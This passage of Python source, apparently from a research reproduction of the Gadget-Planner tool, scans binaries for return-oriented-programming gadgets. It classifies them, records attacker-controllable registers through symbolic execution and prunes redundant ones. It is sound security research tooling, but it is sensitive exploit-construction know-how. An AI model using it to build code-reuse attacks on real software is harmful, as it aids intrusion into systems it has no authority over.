        # 1. re-root at the next decode boundary (drop leading insns).
        chain = window_chain(current.text, current.offset)
        for insn in chain[:-1]:
            candidate = clone_case(current, offset=insn.addr + insn.size)
            if fails(candidate):
                current = candidate
                changed = True
                break
        if changed:
            continue
        # 2. trim the text to exactly the window's bytes.
        chain = window_chain(current.text, current.offset)
        if chain:
            end = chain[-1].addr + chain[-1].size
            if current.offset != 0 or end != len(current.text):
                candidate = clone_case(
                    current, text=current.text[current.offset : end], offset=0
                )
                if fails(candidate):
                    current = candidate
                    changed = True
                    continue
        # 3. drop one instruction with relayout (needs a clean chain).
        chain = window_chain(current.text, current.offset)
        if len(chain) > 1:
            rebased = relayout(spec_of(chain), base=0)
            for k in range(len(rebased) - 1):  # never drop the terminator
                spec = spec_of(rebased)
                del spec[k]
                adjusted = []
                for insn, target in spec:
                    if target is not None:
                        if target > k:
                            target -= 1
                        target = min(target, len(spec))
                    adjusted.append((insn, target))
                candidate = clone_case(
                    current, text=encode_program(relayout(adjusted, base=0)), offset=0
                )
                if fails(candidate):
                    current = candidate
                    changed = True
                    break
    return current


def _shrink_bytes(case: Case, fails: _Pred, budget: List[int]) -> Case:
    current = case
    chunk = max(1, len(current.text) // 2)
    while chunk >= 1 and budget[0] > 0:
        pos = 0
        while pos < len(current.text) and budget[0] > 0:
            trimmed = current.text[:pos] + current.text[pos + chunk :]
            if trimmed and fails(clone_case(current, text=trimmed)):
                current = clone_case(current, text=trimmed)
            else:
                pos += chunk
        chunk //= 2
    return current


def _shrink_program(case: Case, fails: _Pred, budget: List[int]) -> Case:
    current = case
    changed = True
    while changed and budget[0] > 0:
        changed = False
        lines = current.source.splitlines()
        for k in range(len(lines)):
            candidate = clone_case(
                current, source="\n".join(lines[:k] + lines[k + 1 :]) + "\n"
            )
            if fails(candidate):
                current = candidate
                changed = True
                break
    return current
