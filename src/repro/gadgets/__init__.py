"""The gadget pipeline: extraction, records, classification, subsumption."""

from .classify import (
    SyntacticGadget,
    classify_window,
    count_by_type,
    scan_syntactic_gadgets,
    semantic_census,
    total_gadgets,
)
from .extract import (
    ExtractionConfig,
    ExtractionStats,
    candidate_offsets,
    extract_gadgets,
    syntactic_scan,
)
from .record import GadgetRecord, JmpType, record_from_path
from .subsumption import SubsumptionStats, deduplicate_gadgets, fingerprint, subsumes

__all__ = [
    "ExtractionConfig",
    "ExtractionStats",
    "GadgetRecord",
    "JmpType",
    "SubsumptionStats",
    "SyntacticGadget",
    "candidate_offsets",
    "classify_window",
    "count_by_type",
    "deduplicate_gadgets",
    "extract_gadgets",
    "fingerprint",
    "record_from_path",
    "scan_syntactic_gadgets",
    "semantic_census",
    "subsumes",
    "syntactic_scan",
    "total_gadgets",
]
