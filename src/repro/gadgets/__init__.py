"""The gadget pipeline: extraction, records, classification, subsumption."""

from .classify import (
    SyntacticGadget,
    classify_window,
    count_by_type,
    scan_syntactic_gadgets,
    semantic_census,
    total_gadgets,
)
from .extract import (
    ExtractionConfig,
    ExtractionStats,
    candidate_offsets,
    extract_gadgets,
    make_executor,
    plan_candidates,
    run_candidates,
    syntactic_scan,
)
from .record import GadgetRecord, JmpType, record_from_path
from .subsumption import (
    SubsumptionStats,
    bucketize,
    deduplicate_gadgets,
    fingerprint,
    subsumes,
    winnow_bucket,
)

__all__ = [
    "ExtractionConfig",
    "ExtractionStats",
    "GadgetRecord",
    "JmpType",
    "SubsumptionStats",
    "SyntacticGadget",
    "bucketize",
    "candidate_offsets",
    "classify_window",
    "count_by_type",
    "deduplicate_gadgets",
    "extract_gadgets",
    "fingerprint",
    "make_executor",
    "plan_candidates",
    "record_from_path",
    "run_candidates",
    "scan_syntactic_gadgets",
    "semantic_census",
    "subsumes",
    "syntactic_scan",
    "total_gadgets",
    "winnow_bucket",
]
