"""Syntactic gadget counting and classification (Fig. 1 / Table I).

This module reproduces what the *measurement study* in Sec. III does:
run a ROPGadget-style syntactic scan over a binary and bucket every
gadget by its terminating transfer.  It is deliberately independent of
the symbolic pipeline — the paper's point is precisely that counting
gadgets is easy while *using* them is not.
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass
from typing import Dict, List, Optional, Set, TYPE_CHECKING, Tuple

from ..binfmt.image import BinaryImage
from ..isa.instructions import Instruction, Op
from .record import JmpType

if TYPE_CHECKING:  # pragma: no cover
    from ..staticanalysis.decode_graph import DecodeGraph

#: Terminators for the syntactic scan.
_END_OPS = {Op.RET, Op.JMP_R, Op.JMP_M, Op.CALL_R, Op.JMP_REL}


@dataclass
class SyntacticGadget:
    """A gadget found by pure decoding (no semantics)."""

    addr: int
    insns: List[Instruction]
    kind: JmpType

    @property
    def length(self) -> int:
        return len(self.insns)


def classify_window(insns: List[Instruction]) -> Optional[JmpType]:
    """Table I classification of a decoded window ending in a transfer."""
    if not insns:
        return None
    last = insns[-1]
    has_conditional = any(i.is_cond_jump() for i in insns[:-1])
    if last.op == Op.RET:
        return JmpType.RET if not has_conditional else JmpType.CIJ
    if last.op in (Op.JMP_R, Op.JMP_M, Op.CALL_R):
        return JmpType.CIJ if has_conditional else JmpType.UIJ
    if last.op == Op.JMP_REL:
        return JmpType.CDJ if has_conditional else JmpType.UDJ
    if last.is_cond_jump():
        return JmpType.CDJ
    return None


def scan_syntactic_gadgets(
    image: BinaryImage,
    *,
    max_insns: int = 8,
    include_conditional: bool = True,
    graph: Optional["DecodeGraph"] = None,
) -> List[SyntacticGadget]:
    """ROPGadget-style scan: from every byte offset, decode up to
    ``max_insns`` instructions; every prefix ending in a transfer is a
    gadget.  Gadgets are deduplicated by (address, end address).

    Decoding goes through the shared per-process
    :class:`~repro.staticanalysis.decode_graph.DecodeGraph`, so a scan
    after (or before) gadget extraction on the same image costs no
    second decode of the section; pass ``graph`` to reuse one you
    already hold.
    """
    from ..staticanalysis.decode_graph import shared_decode_graph

    text = image.text
    code = text.data
    base = text.addr
    if graph is None:
        graph = shared_decode_graph(code, base)
    out: List[SyntacticGadget] = []
    seen: Set[Tuple[int, int]] = set()
    for offset in range(len(code)):
        insns: List[Instruction] = []
        cursor = offset
        for _ in range(max_insns):
            insn = graph.decode_at(cursor)
            if insn is None:
                break
            insns.append(insn)
            cursor = insn.end - base
            if insn.op in _END_OPS or insn.is_cond_jump():
                kind = classify_window(insns)
                if kind is None:
                    break
                if not include_conditional and kind in (JmpType.CDJ, JmpType.CIJ):
                    break
                key = (offset, cursor)
                if key not in seen:
                    seen.add(key)
                    out.append(SyntacticGadget(addr=base + offset, insns=list(insns), kind=kind))
                if insn.op in _END_OPS:
                    break
                # A conditional jump: keep scanning the fall-through for
                # longer gadgets that contain it (CIJ material).
        # (loop over start offsets continues)
    return out


def count_by_type(gadgets: List[SyntacticGadget]) -> Dict[JmpType, int]:
    """Gadget population per Table I row."""
    counts: Counter = Counter(g.kind for g in gadgets)
    return {k: counts.get(k, 0) for k in JmpType if k is not JmpType.SYSCALL}


def total_gadgets(image: BinaryImage, **kwargs) -> int:
    """Fig. 1's headline number for one binary."""
    return len(scan_syntactic_gadgets(image, **kwargs))


def semantic_census(
    image: BinaryImage, *, max_insns: int = 8, max_steps: int = 128
) -> "GadgetSetMetrics":
    """Brown-et-al-style gadget-set quality metrics, solver-free.

    Where :func:`scan_syntactic_gadgets` counts windows (the Fig. 1
    view this module exists for), the semantic census *summarises* them:
    every byte offset that can reach an indirect transfer within
    ``max_insns`` instructions gets a static dataflow
    :class:`~repro.staticanalysis.WindowSummary`, and the aggregate
    reports functional diversity and special-purpose gadget counts —
    the "is this gadget set actually usable?" question raw counts
    cannot answer.
    """
    from ..staticanalysis.decode_graph import shared_decode_graph
    from ..staticanalysis.metrics import GadgetSetMetrics, compute_metrics
    from ..staticanalysis.window import WindowAnalyzer

    text = image.text
    graph = shared_decode_graph(text.data, text.addr)
    analyzer = WindowAnalyzer(graph, max_insns=max_insns, max_steps=max_steps)
    dist = graph.dist_to_transfer
    summaries = (
        analyzer.summarize(text.addr + offset)
        for offset in range(len(text.data))
        if dist[offset] != -1 and dist[offset] <= max_insns
    )
    metrics = compute_metrics(summaries)
    metrics.total_windows = len(text.data)
    return metrics
