"""Gadget extraction — stage 1 of Gadget-Planner's workflow.

Candidate start addresses come from two sources, matching Sec. IV-B:

* every instruction boundary inside every recovered basic block
  ("decode from the valid starting position of each basic block ...
  ignore the first N instructions and search from an arbitrary position
  in the middle of a basic block"), and
* every *unaligned* byte offset in the text section that syntactically
  decodes to an indirect-transfer-terminated window (the strategy that
  "can detect unaligned instructions").

Three stages of filtering feed the symbolic executor:

1. a cheap syntactic prefilter (``syntactic_scan``) culls offsets that
   cannot reach an indirect transfer under the configured walk rules;
2. a *semantic* prefilter (``staticanalysis.WindowAnalyzer``) culls
   survivors whose decode-graph distance to any indirect transfer
   exceeds the window budget — a sound proof that symbolic execution
   would yield only DEAD paths, so the gadget pool is unchanged;
3. survivors get full symbolic execution, and each usable path becomes
   one Table II record (so a window with a conditional jump yields
   several records, one per feasible side — Fig. 4's distinct feature).

All three stages share one :class:`~repro.staticanalysis.DecodeGraph`,
so every byte of the section is decoded exactly once per extraction.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional, Set, Tuple

from ..analysis.cfg import recover_cfg
from ..binfmt.image import BinaryImage
from ..isa.instructions import Op
from ..obs import metrics, span
from ..staticanalysis.decode_graph import DecodeGraph, shared_decode_graph
from ..staticanalysis.window import WindowAnalyzer
from ..symex.executor import SymbolicExecutor
from .record import GadgetRecord, record_from_path

#: Instructions that end a gadget usefully.
_INDIRECT_ENDS = {Op.RET, Op.JMP_R, Op.JMP_M, Op.CALL_R, Op.SYSCALL}


@dataclass
class ExtractionConfig:
    """Tunables for the extraction stage."""

    max_insns: int = 16  # window length in instructions
    max_paths: int = 6  # fork budget per candidate
    probe_unaligned: bool = True
    include_conditional: bool = True  # ablation knob
    merge_direct_jumps: bool = True  # ablation knob
    max_candidates: Optional[int] = None  # cap for huge binaries
    max_scan_steps: int = 48  # syntactic prefilter depth
    semantic_prefilter: bool = True  # ablation knob (sound: pool unchanged)


@dataclass
class ExtractionStats:
    """Observability for the extraction stage (filled if passed in).

    The ``wall_*`` fields are derived from :mod:`repro.obs` spans —
    the same measurements a ``--trace`` run exports — so the CLI
    summary, ``BENCH_*.json`` and the trace never disagree.
    """

    candidates: int = 0  # after the syntactic stage
    semantically_culled: int = 0  # candidates the prefilter removed
    symex_invocations: int = 0  # windows actually executed symbolically
    records: int = 0
    jobs: int = 1  # worker processes that ran the symex stage
    cache_hits: int = 0  # persistent-cache lookups that short-circuited
    cache_misses: int = 0
    wall_candidates: float = 0.0  # candidate enumeration + syntactic scan
    wall_prefilter: float = 0.0  # semantic prefilter
    wall_symex: float = 0.0  # symbolic execution (sum over workers' share)
    wall_total: float = 0.0  # end-to-end, including cache and merge

    @property
    def cull_ratio(self) -> float:
        return self.semantically_culled / self.candidates if self.candidates else 0.0

    @property
    def cache_hit(self) -> bool:
        return self.cache_hits > 0


def syntactic_scan(
    code: bytes,
    base: int,
    offset: int,
    config: ExtractionConfig,
    graph: Optional[DecodeGraph] = None,
) -> bool:
    """Cheap prefilter: can *some* walk from ``offset`` reach an indirect
    transfer within budget?  Conditional jumps explore both sides (a
    bounded DFS) — essential on flattened code, where nearly every path
    to a ``ret`` goes through dispatcher compare-and-branch chains.

    With a shared ``graph``, offsets that can *never* reach a transfer
    under the configured walk rules are rejected without walking, and
    the DFS reuses the graph's decode cache; the accept/reject result
    is identical either way.
    """
    if graph is not None:
        reachable = graph.ever_reaches(
            merge_direct_jumps=config.merge_direct_jumps,
            include_conditional=config.include_conditional,
        )
        if offset not in reachable:
            return False
        decode_at = graph.decode_at
    else:
        from ..isa.encoding import DecodeError, decode

        def decode_at(cursor: int):
            try:
                return decode(code, cursor, addr=base + cursor)
            except DecodeError:
                return None

    work: List[int] = [offset]
    seen: Set[int] = set()
    while work and len(seen) < config.max_scan_steps:
        cursor = work.pop()
        if cursor in seen or not 0 <= cursor < len(code):
            continue
        seen.add(cursor)
        insn = decode_at(cursor)
        if insn is None:
            continue
        if insn.op in _INDIRECT_ENDS:
            return True
        if insn.op == Op.HLT:
            continue
        if insn.op in (Op.JMP_REL, Op.CALL_REL):
            if config.merge_direct_jumps:
                work.append(insn.target - base)
        elif insn.is_cond_jump():
            if config.include_conditional:
                work.append(insn.target - base)
            work.append(insn.end - base)
        else:
            work.append(insn.end - base)
    return False


def candidate_offsets(
    image: BinaryImage,
    config: ExtractionConfig,
    graph: Optional[DecodeGraph] = None,
) -> List[int]:
    """Candidate start addresses, aligned probes first."""
    text = image.text
    code = text.data
    base = text.addr
    aligned: List[int] = []
    seen: Set[int] = set()
    cfg = recover_cfg(image, decoder=graph.decode_addr if graph is not None else None)
    for block in cfg.blocks.values():
        for insn in block.instructions:
            if insn.addr not in seen:
                seen.add(insn.addr)
                aligned.append(insn.addr)
    unaligned: List[int] = []
    if config.probe_unaligned:
        for offset in range(len(code)):
            addr = base + offset
            if addr not in seen:
                unaligned.append(addr)
    candidates = [a for a in aligned if syntactic_scan(code, base, a - base, config, graph)]
    candidates += [a for a in unaligned if syntactic_scan(code, base, a - base, config, graph)]
    if config.max_candidates is not None and len(candidates) > config.max_candidates:
        # Sample evenly instead of truncating, so the cap preserves the
        # aligned/unaligned mix and spans the whole text section.
        step = len(candidates) / config.max_candidates
        candidates = [candidates[int(i * step)] for i in range(config.max_candidates)]
    return candidates


def plan_candidates(
    image: BinaryImage,
    config: ExtractionConfig,
    stats: Optional[ExtractionStats] = None,
) -> Tuple[DecodeGraph, List[int]]:
    """Stages 1+2: the shared decode graph and the final candidate list.

    When ``config.semantic_prefilter`` is on, candidates whose decode
    graph proves them transfer-unreachable within the window budget are
    dropped before symbolic execution.  The prefilter runs *after* the
    candidate list is fixed (including ``max_candidates`` sampling), so
    it changes which windows are executed, never which are considered —
    with identical record output either way, gadget ids included,
    because culled windows contribute zero usable paths.
    """
    text = image.text
    # One decode of the section per process, shared with the syntactic
    # census and the baseline scanners (same bytes → same graph).
    graph = shared_decode_graph(text.data, text.addr)
    with span("extract.plan") as plan_sp:
        with span("extract.candidates") as cand_sp:
            candidates = candidate_offsets(image, config, graph)
        cand_sp.add("candidates", len(candidates))
        if stats is not None:
            stats.candidates = len(candidates)
            stats.wall_candidates += cand_sp.wall
        if config.semantic_prefilter:
            with span("extract.prefilter") as pre_sp:
                analyzer = WindowAnalyzer(graph, max_insns=config.max_insns)
                kept = [a for a in candidates if analyzer.reaches_transfer(a)]
            pre_sp.add("culled", len(candidates) - len(kept))
            if stats is not None:
                stats.semantically_culled = len(candidates) - len(kept)
                stats.wall_prefilter += pre_sp.wall
            candidates = kept
        plan_sp.add("candidates", len(candidates))
    return graph, candidates


def make_executor(
    code: bytes,
    base_addr: int,
    config: ExtractionConfig,
    graph: Optional[DecodeGraph] = None,
) -> SymbolicExecutor:
    """The symbolic executor the extraction stage runs candidates on.

    Worker processes call this without a ``graph`` (shipping one per
    worker costs more than lazily re-decoding); the decode cache only
    affects speed, never which paths are found.
    """
    executor = SymbolicExecutor(
        code,
        base_addr,
        max_insns=config.max_insns,
        max_paths=config.max_paths if config.include_conditional else 1,
    )
    if graph is not None:
        executor.preload_decode_cache(graph.addr_decode_cache())
    return executor


def run_candidates(
    executor: SymbolicExecutor,
    candidates: List[int],
    config: ExtractionConfig,
    stats: Optional[ExtractionStats] = None,
    start_id: int = 0,
) -> List[GadgetRecord]:
    """Stage 3: symbolically execute candidates, in order, into records.

    Ids are assigned sequentially from ``start_id`` in candidate order,
    so a sharded run that concatenates per-shard results in shard order
    and renumbers reproduces the serial numbering exactly.
    """
    records: List[GadgetRecord] = []
    gadget_id = start_id
    steps_histogram = metrics().histogram("symex.steps_per_candidate")
    insns_at_entry = executor.insns_executed
    paths_at_entry = executor.paths_completed
    with span("extract.symex.run") as sp:
        for addr in candidates:
            if stats is not None:
                stats.symex_invocations += 1
            steps_before = executor.insns_executed
            for path in executor.execute_paths(addr):
                if not path.is_usable:
                    continue
                if not config.include_conditional and path.conditional_jumps:
                    continue
                if not config.merge_direct_jumps and path.merged_direct_jumps:
                    continue
                records.append(record_from_path(gadget_id, path))
                gadget_id += 1
            steps_histogram.observe(executor.insns_executed - steps_before)
        sp.add("candidates", len(candidates))
        sp.add("records", len(records))
        # Deltas, not lifetime totals: a pool worker reuses one executor
        # across chunks, and chunk->process scheduling must not leak
        # into the exported counters (trace byte-stability).
        sp.add("insns", executor.insns_executed - insns_at_entry)
        sp.add("paths", executor.paths_completed - paths_at_entry)
    if stats is not None:
        stats.wall_symex += sp.wall
    return records


def extract_gadgets(
    image: BinaryImage,
    config: Optional[ExtractionConfig] = None,
    stats: Optional[ExtractionStats] = None,
) -> List[GadgetRecord]:
    """Run the full extraction stage over an image, serially.

    :mod:`repro.pipeline` runs the same three stages with the symex
    stage sharded over worker processes and the result pool cached on
    disk; this function remains the single-process reference path the
    parallel pipeline is asserted byte-identical against.
    """
    config = config or ExtractionConfig()
    with span("extract") as root:
        graph, candidates = plan_candidates(image, config, stats)
        executor = make_executor(image.text.data, image.text.addr, config, graph)
        with span("extract.symex") as sym_sp:
            records = run_candidates(executor, candidates, config, stats)
        sym_sp.add("records", len(records))
        root.add("records", len(records))
    if stats is not None:
        stats.records = len(records)
        stats.wall_total += root.wall
    return records
