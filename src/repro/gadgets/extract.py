"""Gadget extraction — stage 1 of Gadget-Planner's workflow.

Candidate start addresses come from two sources, matching Sec. IV-B:

* every instruction boundary inside every recovered basic block
  ("decode from the valid starting position of each basic block ...
  ignore the first N instructions and search from an arbitrary position
  in the middle of a basic block"), and
* every *unaligned* byte offset in the text section that syntactically
  decodes to an indirect-transfer-terminated window (the strategy that
  "can detect unaligned instructions").

A cheap syntactic prefilter culls offsets that cannot reach an indirect
transfer; survivors get full symbolic execution, and each usable path
becomes one Table II record (so a window with a conditional jump yields
several records, one per feasible side — Fig. 4's distinct feature).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Iterable, List, Optional, Set

from ..analysis.cfg import recover_cfg
from ..binfmt.image import BinaryImage
from ..isa.encoding import DecodeError, decode
from ..isa.instructions import Op
from ..symex.executor import SymbolicExecutor
from .record import GadgetRecord, record_from_path

#: Instructions that end a gadget usefully.
_INDIRECT_ENDS = {Op.RET, Op.JMP_R, Op.JMP_M, Op.CALL_R, Op.SYSCALL}


@dataclass
class ExtractionConfig:
    """Tunables for the extraction stage."""

    max_insns: int = 16  # window length in instructions
    max_paths: int = 6  # fork budget per candidate
    probe_unaligned: bool = True
    include_conditional: bool = True  # ablation knob
    merge_direct_jumps: bool = True  # ablation knob
    max_candidates: Optional[int] = None  # cap for huge binaries
    max_scan_steps: int = 48  # syntactic prefilter depth


def syntactic_scan(code: bytes, base: int, offset: int, config: ExtractionConfig) -> bool:
    """Cheap prefilter: can *some* walk from ``offset`` reach an indirect
    transfer within budget?  Conditional jumps explore both sides (a
    bounded DFS) — essential on flattened code, where nearly every path
    to a ``ret`` goes through dispatcher compare-and-branch chains."""
    work: List[int] = [offset]
    seen: Set[int] = set()
    while work and len(seen) < config.max_scan_steps:
        cursor = work.pop()
        if cursor in seen or not 0 <= cursor < len(code):
            continue
        seen.add(cursor)
        try:
            insn = decode(code, cursor, addr=base + cursor)
        except DecodeError:
            continue
        if insn.op in _INDIRECT_ENDS:
            return True
        if insn.op == Op.HLT:
            continue
        if insn.op in (Op.JMP_REL, Op.CALL_REL):
            if config.merge_direct_jumps:
                work.append(insn.target - base)
        elif insn.is_cond_jump():
            if config.include_conditional:
                work.append(insn.target - base)
            work.append(insn.end - base)
        else:
            work.append(insn.end - base)
    return False


def candidate_offsets(image: BinaryImage, config: ExtractionConfig) -> List[int]:
    """Candidate start addresses, aligned probes first."""
    text = image.text
    code = text.data
    base = text.addr
    aligned: List[int] = []
    seen: Set[int] = set()
    cfg = recover_cfg(image)
    for block in cfg.blocks.values():
        for insn in block.instructions:
            if insn.addr not in seen:
                seen.add(insn.addr)
                aligned.append(insn.addr)
    unaligned: List[int] = []
    if config.probe_unaligned:
        for offset in range(len(code)):
            addr = base + offset
            if addr not in seen:
                unaligned.append(addr)
    candidates = [a for a in aligned if syntactic_scan(code, base, a - base, config)]
    candidates += [a for a in unaligned if syntactic_scan(code, base, a - base, config)]
    if config.max_candidates is not None and len(candidates) > config.max_candidates:
        # Sample evenly instead of truncating, so the cap preserves the
        # aligned/unaligned mix and spans the whole text section.
        step = len(candidates) / config.max_candidates
        candidates = [candidates[int(i * step)] for i in range(config.max_candidates)]
    return candidates


def extract_gadgets(
    image: BinaryImage, config: Optional[ExtractionConfig] = None
) -> List[GadgetRecord]:
    """Run the full extraction stage over an image."""
    config = config or ExtractionConfig()
    text = image.text
    executor = SymbolicExecutor(
        text.data,
        text.addr,
        max_insns=config.max_insns,
        max_paths=config.max_paths if config.include_conditional else 1,
    )
    records: List[GadgetRecord] = []
    gadget_id = 0
    for addr in candidate_offsets(image, config):
        for path in executor.execute_paths(addr):
            if not path.is_usable:
                continue
            if not config.include_conditional and path.conditional_jumps:
                continue
            if not config.merge_direct_jumps and path.merged_direct_jumps:
                continue
            records.append(record_from_path(gadget_id, path))
            gadget_id += 1
    return records
