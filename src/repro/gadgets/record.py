"""Gadget records — the paper's Table II.

Each record is the "semantic metadata" produced for one symbolic path
through a gadget candidate: length, location, jump type, clobbered and
controlled registers, pre-condition (path constraints) and
post-condition (final register expressions, memory effects, and the
symbolic jump target)."""

from __future__ import annotations

import enum
from dataclasses import dataclass
from typing import Dict, FrozenSet, List, Optional

from ..isa.instructions import Instruction
from ..isa.registers import ALL_REGS, Reg
from ..symex.executor import EndKind, PathSummary
from ..symex.expr import BV, Bool, free_symbols
from ..symex.state import MemRead, MemWrite, is_controlled_symbol, reg_sym


class JmpType(enum.Enum):
    """Table I's taxonomy of gadget-terminating transfers."""

    RET = "ret"
    UIJ = "uij"  # unconditional indirect jump (jmp reg / jmp [mem] / call reg)
    UDJ = "udj"  # gadget used/ended-through a direct jump (merged)
    CDJ = "cdj"  # conditional + direct
    CIJ = "cij"  # conditional + indirect
    SYSCALL = "syscall"


def _jmp_type(path: PathSummary) -> JmpType:
    conditional = path.conditional_jumps > 0
    if path.end is EndKind.SYSCALL:
        return JmpType.SYSCALL
    if path.end is EndKind.RET:
        if conditional:
            return JmpType.CIJ  # conditional path ending in ret: indirect family
        if path.merged_direct_jumps > 0:
            return JmpType.UDJ
        return JmpType.RET
    # Indirect endings (jmp reg / jmp [mem] / call reg).
    if conditional:
        return JmpType.CIJ
    if path.merged_direct_jumps > 0:
        return JmpType.UDJ
    return JmpType.UIJ


@dataclass
class GadgetRecord:
    """Table II: the complete semantic description of one gadget."""

    gadget_id: int
    location: int  # address of the first instruction
    length: int  # in bytes
    insns: List[Instruction]
    jmp_type: JmpType
    end: EndKind
    pre_cond: List[Bool]  # symbolic constraints required to traverse
    post_regs: Dict[Reg, BV]  # final register expressions
    jump_target: BV  # symbolic next-rip
    clob_regs: FrozenSet[Reg]  # registers whose content is overwritten
    ctrl_regs: FrozenSet[Reg]  # registers fully attacker-controllable
    stack_delta: Optional[int]  # rsp movement, when constant
    stack_smashed: bool
    mem_reads: List[MemRead]
    mem_writes: List[MemWrite]
    max_stack_offset: int  # deepest payload word consumed
    conditional_jumps: int
    merged_direct_jumps: int

    @property
    def num_insns(self) -> int:
        return len(self.insns)

    @property
    def has_side_memory_writes(self) -> bool:
        return any(w.stack_offset is None for w in self.mem_writes)

    def changed_regs(self) -> FrozenSet[Reg]:
        return self.clob_regs

    def describe(self) -> str:
        """A human-readable multi-line rendering (examples use this)."""
        lines = [f"gadget #{self.gadget_id} @ {self.location:#x} [{self.jmp_type.value}]"]
        lines += [f"    {insn}" for insn in self.insns]
        if self.pre_cond:
            lines.append("  pre:  " + " && ".join(str(c) for c in self.pre_cond))
        changed = {r: e for r, e in self.post_regs.items() if e != reg_sym(r)}
        for r, e in sorted(changed.items(), key=lambda kv: kv[0].value):
            lines.append(f"  post: {r} = {e}")
        lines.append(f"  jump: {self.jump_target}")
        return "\n".join(lines)

    def __str__(self) -> str:
        return f"Gadget@{self.location:#x}({self.jmp_type.value},{self.num_insns} insns)"

    def to_bytes(self) -> bytes:
        """Canonical byte encoding (see :mod:`repro.pipeline.serialize`).

        Equal records produce equal bytes, and ``from_bytes`` restores a
        structurally identical record — the round-trip the worker pool
        and the persistent result cache both rely on.
        """
        from ..pipeline.serialize import record_to_bytes

        return record_to_bytes(self)

    @classmethod
    def from_bytes(cls, blob: bytes) -> "GadgetRecord":
        """Inverse of :meth:`to_bytes`."""
        from ..pipeline.serialize import record_from_bytes

        return record_from_bytes(blob)


def record_from_path(gadget_id: int, path: PathSummary) -> GadgetRecord:
    """Build a Table II record from one symbolic path summary."""
    state = path.state
    clobbered = frozenset(r for r in ALL_REGS if state.get(r) != reg_sym(r))
    controlled = frozenset(
        r
        for r in ALL_REGS
        if r != Reg.RSP
        and state.get(r) != reg_sym(r)
        and _fully_controlled(state.get(r))
    )
    length = sum(i.size for i in path.insns)
    return GadgetRecord(
        gadget_id=gadget_id,
        location=path.start_addr,
        length=length,
        insns=list(path.insns),
        jmp_type=_jmp_type(path),
        end=path.end,
        pre_cond=list(state.constraints),
        post_regs={r: state.get(r) for r in ALL_REGS},
        jump_target=path.jump_target,
        clob_regs=clobbered,
        ctrl_regs=controlled,
        stack_delta=state.rsp_offset(),
        stack_smashed=state.stack_smashed,
        mem_reads=list(state.mem_reads),
        mem_writes=list(state.mem_writes),
        max_stack_offset=state.max_stack_offset_read,
        conditional_jumps=path.conditional_jumps,
        merged_direct_jumps=path.merged_direct_jumps,
    )


def _fully_controlled(expr: BV) -> bool:
    """All free symbols are attacker-controlled payload words."""
    syms = free_symbols(expr)
    return bool(syms) and all(is_controlled_symbol(s) for s in syms)
