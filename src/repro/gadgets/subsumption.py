"""Subsumption testing — stage 2 of Gadget-Planner's workflow.

The extraction stage produces an enormous pool; this stage winnows it
to a minimal subset by removing redundant gadgets.  Gadget g1 subsumes
g2 when (Sec. IV-C, eqn. 1)::

    (pre_2 → pre_1)  ∧  (post_1 = post_2)

i.e. g1 computes the same post-state under a *looser* pre-condition,
so g2 can be dropped without shrinking the pool's expressiveness.

Checking all pairs with a solver is quadratic and slow, so the stage
first buckets gadgets by a *semantic fingerprint* — the post-state
evaluated on a handful of fixed pseudo-random input vectors.  Gadgets
in different buckets cannot have equal post-conditions; within a
bucket, equality is decided in three tiers:

1. syntactic identity (free);
2. random evaluation on 16 further sample vectors — any disagreement
   proves inequality; full agreement is accepted as equality.  (With
   independent 64-bit probes a false collision is vanishingly unlikely;
   pass ``exact=True`` to confirm each equality with the solver, at
   ~100× the cost, dominated by bit-blasting 64×64 multipliers.)
3. pre-condition *implication* (the directional part of eqn. 1) is
   checked with the solver — sampling cannot prove implications.

Treating sampled equality as equality makes deduplication
probabilistic, which is safe here: a wrongly dropped gadget only
shrinks the pool (it can cost completeness, never soundness — every
emitted payload is validated by concrete execution).
"""

from __future__ import annotations

import hashlib
from collections import defaultdict
from dataclasses import dataclass
from typing import Dict, List, Optional, Sequence, Tuple

from ..isa.registers import ALL_REGS
from ..obs import metrics, span
from ..solver.solver import Solver
from ..symex.expr import Bool, bool_and, bool_not, bv_eq, eval_bool, eval_bv
from .record import GadgetRecord

_NUM_PROBES = 4


def _probe_value(name: str, trial: int) -> int:
    """A deterministic pseudo-random 64-bit value per (symbol, trial)."""
    digest = hashlib.blake2b(f"{name}|{trial}".encode(), digest_size=8).digest()
    return int.from_bytes(digest, "little")


class _ProbeEnv(dict):
    """An env that lazily invents values for any symbol."""

    def __init__(self, trial: int):
        super().__init__()
        self.trial = trial

    def __missing__(self, key: str) -> int:
        value = _probe_value(key, self.trial)
        self[key] = value
        return value


def fingerprint(record: GadgetRecord) -> Tuple:
    """Semantic fingerprint: post-state sampled on fixed inputs."""
    samples = []
    for trial in range(_NUM_PROBES):
        env = _ProbeEnv(trial)
        regs = tuple(eval_bv(record.post_regs[r], env) for r in ALL_REGS)
        target = eval_bv(record.jump_target, env)
        samples.append((regs, target))
    # Structural effects must match exactly for interchangeability.
    effects = (
        record.end,
        len(record.mem_writes),
        tuple((w.width, w.stack_offset) for w in record.mem_writes),
    )
    return (tuple(samples), effects)


#: Extra sample vectors used to refute equivalence before any SAT call.
_REFUTE_TRIALS = tuple(range(_NUM_PROBES, _NUM_PROBES + 12))


def _sampled_equal(ea, eb) -> bool:
    """True when the two expressions agree on every refutation sample."""
    for trial in _REFUTE_TRIALS:
        env = _ProbeEnv(trial)
        if eval_bv(ea, env) != eval_bv(eb, env):
            return False
    return True


def _exprs_equal(ea, eb, solver: Solver, exact: bool) -> bool:
    """Tiered equality: syntactic → sampling → optional solver proof."""
    if ea == eb:
        return True
    if not _sampled_equal(ea, eb):
        return False
    if not exact:
        return True
    result = solver.check([bool_not(bv_eq(ea, eb))])
    return not result.is_sat  # UNSAT or UNKNOWN → treat as equal


def _posts_equal(a: GadgetRecord, b: GadgetRecord, solver: Solver, exact: bool = False) -> bool:
    """post_a == post_b for every register and the jump target."""
    for r in ALL_REGS:
        if not _exprs_equal(a.post_regs[r], b.post_regs[r], solver, exact):
            return False
    if not _exprs_equal(a.jump_target, b.jump_target, solver, exact):
        return False
    # Memory effects: compare syntactically (conservative).
    if len(a.mem_writes) != len(b.mem_writes):
        return False
    for wa, wb in zip(a.mem_writes, b.mem_writes):
        if (wa.addr, wa.value, wa.width) != (wb.addr, wb.value, wb.width):
            return False
    return True


#: Memo table type for pre-condition implication decisions: the key is
#: the normalized (stronger, weaker) pair of constraint tuples.
ImplicationMemo = Dict[Tuple[Tuple[Bool, ...], Tuple[Bool, ...]], bool]


def _pre_implies(
    weaker: Sequence[Bool],
